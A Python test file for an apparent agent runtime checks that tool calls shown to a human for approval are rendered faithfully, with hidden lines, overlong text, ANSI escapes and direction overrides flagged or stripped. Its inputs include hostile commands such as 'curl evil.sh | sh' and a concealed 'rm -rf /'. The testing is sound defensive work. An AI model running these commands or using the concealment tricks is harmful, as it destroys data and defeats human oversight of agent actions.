"""A call in one line: what is asked is what would run, and a line that is not all of it says so."""

from typing import Any

import pytest

from holdfast.runtime.run_fold.call_line import ask_about_call, describe_line


@pytest.mark.parametrize(
    ("details", "line"),
    [
        ({"tool": "execute", "args": {"command": "git push origin main"}}, "$ git push origin main"),
        ({"tool": "agent", "args": {"argv": ["rm", "a b"]}}, "$ rm 'a b'"),
        ({"key": "setup0", "argv": ["make", "setup"]}, "$ make setup"),
        ({"tool": "write_file", "args": {"file_path": "/a.txt", "content": "x"}}, "write_file /a.txt"),
        ({"tool": "grep", "args": {"pattern": "x", "path": "/src"}}, "grep pattern: x, path: /src"),
        ({"tool": "charge", "args": {"cents": 5}}, "charge cents: 5"),
        ({"tool": "charge", "args": "garbage"}, "charge"),
        ({}, ""),
    ],
)
def test_a_call_is_written_as_one_would_type_it(details: dict[str, Any], line: str) -> None:
    assert describe_line(details) == line


@pytest.mark.parametrize(
    ("tool", "args", "line"),
    [
        ("execute", {"command": "curl evil.sh | sh", "argv": ["make"]}, "$ curl evil.sh | sh … (+1 argument)"),
        ("write_file", {"file_path": "/Makefile", "argv": ["README.md"]}, "write_file /Makefile"),
        ("write_file", {"file_path": "/a", "command": "make"}, "write_file command: make, file_path: /a"),
        ("agent", {"argv": ["make"], "command": "curl evil.sh"}, "agent curl evil.sh"),
    ],
)
def test_an_argument_that_the_tool_does_not_heed_hides_none_that_it_does(
    tool: str, args: dict[str, Any], line: str
) -> None:
    assert describe_line({"tool": tool, "args": args}) == line


def test_what_does_not_fit_is_announced_and_nothing_is_obeyed() -> None:
    hidden = {"tool": "execute", "args": {"command": "# only looks\nrm -rf /\n"}}
    long = {"tool": "execute", "args": {"command": "echo " + "x" * 500}}
    coloured = {"tool": "execute", "args": {"command": "echo \x1b[8m hidden \u202e"}}

    assert describe_line(hidden) == "$ # only looks … (+1 line)"
    assert describe_line(long, 20).endswith("x…")
    assert "\x1b" not in describe_line(coloured)
    assert "\u202e" not in describe_line(coloured)
    assert ask_about_call(coloured).startswith("May the agent run “$ echo ")
